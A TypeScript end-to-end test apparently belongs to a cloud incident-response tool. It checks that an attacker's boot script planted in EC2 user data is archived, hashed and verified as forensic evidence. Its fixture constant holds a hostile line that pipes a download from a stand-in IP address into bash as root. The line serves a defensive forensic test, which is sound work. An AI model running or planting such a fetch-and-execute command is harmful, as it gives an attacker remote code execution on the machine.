/**
 * `collect-user-data` end to end on the emulator: an attacker's boot script planted in an
 * instance's user data is archived byte for byte by the evidence lane, listed in the sealed
 * manifest with its SHA-256, and verifies.
 */
import { createHash } from "node:crypto";
import { ModifyInstanceAttributeCommand } from "@aws-sdk/client-ec2";
import { GetObjectCommand } from "@aws-sdk/client-s3";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { s3Client } from "../../shared/aws/clients.ts";
import { verifyIncident } from "../../shared/evidence/verify.ts";
import type { IncidentRecord } from "../../shared/incident/model.ts";
import { drillEvent, type FaultWorld, quiet, runToSettled, startFaultWorld } from "./faults-harness.ts";

/** What the attacker planted: it runs as root at the next boot. */
const PLANTED = "#!/bin/bash\ncurl -s http://203.0.113.9/stage2 | bash\n";

describe("collect-user-data on the emulator", () => {
  let world: FaultWorld;
  let incident: IncidentRecord;
  let instanceId: string;

  beforeAll(async () => {
    world = await startFaultWorld();
    const drill = drillEvent(world, "c2", "web");
    instanceId = drill.instanceId;
    await world.ec2.send(
      // EC2 takes this user data base64-encoded inside the blob that the SDK encodes again
      // (RunInstances does not): the value is the base64 text of the script.
      new ModifyInstanceAttributeCommand({
        InstanceId: instanceId,
        UserData: { Value: Buffer.from(Buffer.from(PLANTED).toString("base64")) },
      }),
    );
    const { incidentId } = await runToSettled(world, drill);
    incident = await quiet(world, incidentId);
  });

  afterAll(async () => {
    await world?.stop();
  });

  it("plans it beside collect-artifacts (the default policy)", () => {
    expect(incident.plan.actions.map((a) => a.name)).toEqual(
      expect.arrayContaining(["collect-artifacts", "collect-user-data"]),
    );
  });

  it("archives the user data byte for byte, with its SHA-256, and the manifest seals it", async () => {
    const sha256 = createHash("sha256").update(PLANTED).digest("hex");
    const record = incident.evidence?.artifacts?.find((a) => a.name === `${instanceId}/user-data`);
    expect(record, JSON.stringify(incident.steps.artifacts)).toMatchObject({
      sha256,
      size: Buffer.byteLength(PLANTED),
      sourceApiCall: "ec2:DescribeInstanceAttribute",
    });

    const bucket = world.session.local.resources.evidenceBucket;
    const object = await s3Client(world.session.aws).send(
      new GetObjectCommand({ Bucket: bucket, Key: record?.key, VersionId: record?.versionId }),
    );
    expect(Buffer.from((await object.Body?.transformToByteArray()) ?? []).toString()).toBe(PLANTED);

    const report = await verifyIncident(s3Client(world.session.aws), {
      bucket,
      incidentId: incident.incidentId,
    });
    expect(report.items.find((i) => i.name === `${instanceId}/user-data`)?.status).toBe("ok");
    expect(report.ok).toBe(true);
  });
});
